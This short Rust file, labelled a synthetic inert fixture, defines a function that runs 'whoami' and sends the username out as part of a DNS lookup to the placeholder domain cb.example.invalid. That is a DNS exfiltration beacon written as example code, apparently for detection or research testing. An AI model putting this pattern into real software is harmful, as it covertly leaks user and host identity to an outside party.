// Synthetic, inert fixture written from public reports; see README
use std::process::Command;

pub fn emit() {
    let who = Command::new("whoami")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let name = format!("{}.cb.example.invalid", String::from_utf8_lossy(&who).trim());
    let _ = Command::new("nslookup").arg(name).status();
}
